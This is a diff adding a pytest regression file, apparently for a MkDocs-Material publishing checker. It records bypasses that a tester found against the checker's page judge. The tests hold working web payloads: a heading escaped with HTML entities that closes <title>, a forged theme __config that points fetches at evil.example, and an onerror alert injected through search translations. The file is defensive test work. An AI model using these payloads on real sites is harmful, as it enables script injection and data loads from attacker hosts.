@@ -1,0 +1,110 @@
+"""Bypasses of the published-page judge (careleaf/published.py), found by a hostile tester.
+
+Each test writes one editor input that, confirmed in Chromium (a dialog, or a request to
+another host recorded by Playwright), makes a built page run script or fetch from another
+host, and asserts what careleaf promises: the build fails with a line `path:line: rule: ...`.
+They fail until the judge is fixed.
+"""
+
+from __future__ import annotations
+
+import html
+import json
+import re
+from pathlib import Path
+
+import material
+from conftest import mkdocs
+
+FINDING = re.compile(r"^(?:ERROR|WARNING)\s+-\s+(\S+):(\d+): ([a-z-]+): (.+)$", re.M)
+RULES = {"html-unsafe", "external-resource"}
+WORKER = next(
+    (Path(material.__file__).parent / "templates/assets/javascripts/workers").glob(
+        "search.*.min.js"
+    )
+).name
+TRANSLATIONS = (
+    "clipboard.copied clipboard.copy search.result.more.one search.result.more.other "
+    "search.result.none search.result.one search.result.other search.result.placeholder "
+    "search.result.term.missing select.version"
+).split()
+
+
+def _refused(project: Path, path: str) -> None:
+    """The build stops, naming `path` with one of the judge's rules."""
+    result = mkdocs(project, "build")
+    found = {(m[1], m[3]) for m in FINDING.finditer(result.stderr)}
+    assert result.returncode == 1, f"built and published:\n{result.stderr}"
+    assert "Traceback" not in result.stderr
+    assert any(p == path and rule in RULES for p, rule in found), result.stderr
+
+
+def _page(project: Path, name: str, text: str) -> None:
+    (project / "docs" / name).write_text(text)
+    with (project / "mkdocs.yml").open("a") as f:
+        f.write(f"nav:\n  - index.md\n  - {name}\n")
+
+
+def _forged_config(base: str, version: object, say: str) -> str:
+    """Material's `__config`, as a page's `<title>` may carry it ahead of the real one."""
+    return json.dumps(
+        {
+            "base": base,
+            "features": [],
+            "search": f"../assets/javascripts/workers/{WORKER}",
+            "tags": None,
+            "translations": dict.fromkeys(TRANSLATIONS, say),
+            "version": version,
+        },
+        separators=(",", ":"),
+    )
+
+
+def _h1_breaking_title(inner: str) -> str:
+    """A page heading written as text (entities): MkDocs makes it the page's title and
+    Material writes `{{ page.title | striptags }}` into `<title>`, where `striptags` turns
+    the entities back into markup (`&lt;/title&gt;` closes the title)."""
+    return html.escape(f"</title>{inner}<title>", quote=True).replace("#", "&#35;")
+
+
+# Chromium: every page (home, treatments) requests
+# https://api.github.com/repos/squidfunk/mkdocs-material and .../releases/latest.
+# The page's title reaches the header and the navigation unescaped, in the theme's frame,
+# where `data-md-*` attributes are allowed; Material's `source` component fetches a
+# repository's facts from GitHub for any `[data-md-component=source]` (what `repo_url`
+# does, which careleaf refuses).
+SOURCE = (
+    '<a href="https://github.com/squidfunk/mkdocs-material" data-md-component="source">'
+    "<span>x</span></a>"
+)
+
+
+def test_home_page_title_with_a_source_component_fetches_from_github(project):
+    (project / "docs/index.md").write_text(
+        f"---\ntitle: '{SOURCE}'\n---\n# Test Clinic\n\nA test site.\n"
+    )
+    _refused(project, "docs/index.md")
+
+
+# Chromium, on about/: requests https://evil.example/versions.json as the page loads, and
+# https://evil.example/x/search/search_index.json when search opens. The heading ends
+# `<title>` and writes a data script `#__config` (a data script with only `id` and `type` is
+# never judged); Material reads the first `#__config` on the page.
+def test_page_heading_forges_the_theme_config_to_fetch_from_another_host(project):
+    config = _forged_config("https://evil.example/x/", {"provider": "mike"}, "Missing")
+    inner = f'<script id="__config" type="application/json">{config}</script>'
+    _page(project, "about.md", f"# About {_h1_breaking_title(inner)}\n\nAbout us.\n")
+    _refused(project, "docs/about.md")
+
+
+# Chromium, on about/: press `s`, type `peel`: alert(document.domain) runs (4 dialogs).
+# Material writes its translations into search results with innerHTML.
+def test_page_heading_forges_the_theme_config_to_run_script(project):
+    config = _forged_config("..", None, "<img src=x onerror=alert(document.domain)>")
+    inner = f'<script id="__config" type="application/json">{config}</script>'
+    _page(
+        project,
+        "about.md",
+        f"# About {_h1_breaking_title(inner)}\n\nAbout the peel.\n\n## Peel again\n\nPeel.\n",
+    )
+    _refused(project, "docs/about.md")
